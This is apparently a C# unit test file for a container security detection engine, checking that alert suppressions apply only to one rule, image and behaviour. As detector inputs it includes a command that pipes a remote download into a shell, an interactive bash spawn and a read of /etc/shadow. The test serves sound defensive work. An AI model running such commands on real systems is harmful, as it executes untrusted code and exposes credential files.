using WorkloadProfiles.Detection.Rules;
using WorkloadProfiles.Domain.Events;
using WorkloadProfiles.Domain.Identity;
using WorkloadProfiles.Domain.Signals;
using static WorkloadProfiles.Detection.Tests.Events;

namespace WorkloadProfiles.Detection.Tests;

/// <summary>A suppression stops exactly one rule for one behaviour (node) of one image.</summary>
public sealed class SuppressionTests
{
    private static readonly RuleSet Defaults = RuleSet.LoadDefault();

    // The nginx entrypoint runs a shell script, which the shell rule flags.
    private static RawEvent[] Entrypoint(string script = "/docker-entrypoint.sh") =>
    [
        Exec(1, "/bin/sh", "sh", script, "nginx"),
        Fork(1, 30, "sh"),
        Exec(30, "/bin/bash", "bash", "-i"),
    ];

    private static Suppression SuppressionFor(SecuritySignal signal, string? imageName = null) => new()
    {
        Id = Suppression.MakeId(signal.RuleId, imageName ?? signal.Container.ImageName!, NodeIdentity.ForBehaviour(signal.Behaviour)),
        RuleId = signal.RuleId,
        ImageName = imageName ?? signal.Container.ImageName!,
        NodeId = NodeIdentity.ForBehaviour(signal.Behaviour),
        Expression = "test",
    };

    private static SecuritySignal EntrypointShellSignal() =>
        new DetectionEngine(Defaults).Evaluate(Batch(Entrypoint()))
            .First(s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1);

    [Fact]
    public void A_suppression_with_signatures_covers_only_an_ancestry_run_with_those_arguments()
    {
        var health = new DetectionEngine(Defaults).Evaluate(Batch(Exec(1, "/bin/busybox", "sh", "-c", "wget -q http://127.0.0.1:8080/health")))
            .Single(s => s.RuleId == "wp.shell-in-container");
        var signatures = NodeIdentity.SignaturesOf(health.Behaviour.Ancestry);
        var suppression = SuppressionFor(health) with
        {
            Id = Suppression.MakeId(health.RuleId, health.Container.ImageName!, NodeIdentity.ForBehaviour(health.Behaviour), signatures),
            Signatures = signatures,
        };
        var engine = new DetectionEngine(Defaults, new SuppressionSet([suppression]));

        // The same check again (another id in the query string: normalized away) is suppressed…
        Assert.DoesNotContain(engine.Evaluate(Batch(Exec(2, "/bin/busybox", "sh", "-c", "wget -q http://127.0.0.1:8080/health"))),
            s => s.RuleId == "wp.shell-in-container");
        // …the same node with an injected script is not.
        var injected = engine.Evaluate(Batch(Exec(3, "/bin/busybox", "sh", "-c", "wget -q -O- http://203.0.113.9/x | sh")));
        Assert.Contains(injected, s => s.RuleId == "wp.shell-in-container");
        Assert.NotEqual(suppression.Id, Suppression.MakeId(health.RuleId, health.Container.ImageName!, suppression.NodeId, ["-c 'other'"]));
    }

    [Fact]
    public void Suppressed_behaviour_stops_raising_and_is_counted()
    {
        var suppressions = new SuppressionSet([SuppressionFor(EntrypointShellSignal())]);
        var engine = new DetectionEngine(Defaults, suppressions);

        var signals = engine.Evaluate(Batch(Entrypoint()));

        // The entrypoint shell is suppressed; the bash -i under it is another node (and the interactive rule another rule).
        Assert.DoesNotContain(signals, s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1);
        Assert.Contains(signals, s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 2);
        Assert.Contains(signals, s => s.RuleId == "wp.interactive-shell");
        Assert.Equal(1, engine.Counters.Suppressed["wp.shell-in-container"]);
        Assert.Equal(2, engine.Counters.Matched["wp.shell-in-container"]);
        Assert.Equal(0, engine.Counters.Suppressed["wp.interactive-shell"]);
    }

    [Fact]
    public void A_different_node_of_the_same_rule_and_image_still_raises()
    {
        var engine = new DetectionEngine(Defaults, new SuppressionSet([SuppressionFor(EntrypointShellSignal())]));

        var signals = engine.Evaluate(Batch(Entrypoint("/tmp/evil.sh")));

        Assert.Contains(signals, s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1);
        Assert.Equal(0, engine.Counters.Suppressed["wp.shell-in-container"]);
    }

    [Fact]
    public void The_same_behaviour_in_another_image_still_raises()
    {
        var engine = new DetectionEngine(Defaults, new SuppressionSet([SuppressionFor(EntrypointShellSignal())]));

        var signals = engine.Evaluate(Batch(new ContainerRef("c2", "httpd", "2.4"), Entrypoint()));

        Assert.Contains(signals, s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1);
    }

    [Fact]
    public void The_same_behaviour_under_another_rule_still_raises()
    {
        var shell = EntrypointShellSignal();
        var otherRule = SuppressionFor(shell) with { RuleId = "wp.network-tool", Id = "other-rule" };
        var engine = new DetectionEngine(Defaults, new SuppressionSet([otherRule]));

        Assert.Contains(engine.Evaluate(Batch(Entrypoint())),
            s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1);
    }

    [Fact]
    public void An_unresolved_image_is_never_suppressed()
    {
        var engine = new DetectionEngine(Defaults, new SuppressionSet([SuppressionFor(EntrypointShellSignal())]));

        var signals = engine.Evaluate(Batch(new ContainerRef(ContainerId, null, null), Entrypoint()));

        Assert.Contains(signals, s => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1);
    }

    [Fact]
    public void Removing_the_suppression_re_enables_the_signal()
    {
        var suppression = SuppressionFor(EntrypointShellSignal());
        var engine = new DetectionEngine(Defaults, new SuppressionSet([suppression]));
        Assert.DoesNotContain(engine.Evaluate(Batch(new ContainerRef("c3", "nginx", "1.27"), Entrypoint())), IsEntrypointShell);

        engine.Suppressions.Apply(suppression with { Removed = true, RemovedBy = "soc", RemovedAtUs = Now() });

        Assert.Equal(0, engine.Suppressions.Count);
        // A fresh container of the same image (same lineage, same node) raises again.
        Assert.Contains(engine.Evaluate(Batch(new ContainerRef("c4", "nginx", "1.27"), Entrypoint())), IsEntrypointShell);
    }

    [Fact]
    public void Suppression_of_a_file_behaviour_is_scoped_to_its_normalized_path_node()
    {
        var first = Assert.Single(new DetectionEngine(Defaults).Evaluate(Batch(Exec(1, "/usr/bin/app"), Open(1, "/etc/shadow", comm: "app"))));
        var engine = new DetectionEngine(Defaults, new SuppressionSet([SuppressionFor(first)]));

        Assert.Empty(engine.Evaluate(Batch(Exec(1, "/usr/bin/app"), Open(1, "/etc/shadow", comm: "app"))));
        Assert.Single(engine.Evaluate(Batch(Exec(1, "/usr/bin/app"), Open(1, "/etc/gshadow", comm: "app"))));
        Assert.Single(engine.Evaluate(Batch(Exec(1, "/usr/bin/other"), Open(1, "/etc/shadow", comm: "other"))));
    }

    [Fact]
    public void Set_replaces_by_id_and_removes_by_tombstone()
    {
        var shell = EntrypointShellSignal();
        var set = new SuppressionSet();
        var s = SuppressionFor(shell);

        set.Apply(s);
        set.Apply(s with { Description = "updated" });
        Assert.Equal(1, set.Count);
        Assert.Equal("updated", set.Match(shell.RuleId, "nginx", shell.Behaviour)?.Description);

        // Re-pointing the same id at another image moves it.
        set.Apply(s with { ImageName = "httpd" });
        Assert.Null(set.Match(shell.RuleId, "nginx", shell.Behaviour));
        Assert.NotNull(set.Match(shell.RuleId, "httpd", shell.Behaviour));

        Assert.True(set.Remove(s.Id));
        Assert.False(set.Remove(s.Id));
        Assert.Null(set.Match(shell.RuleId, "httpd", shell.Behaviour));
    }

    private static bool IsEntrypointShell(SecuritySignal s) => s.RuleId == "wp.shell-in-container" && s.Behaviour.Ancestry.Count == 1;
}
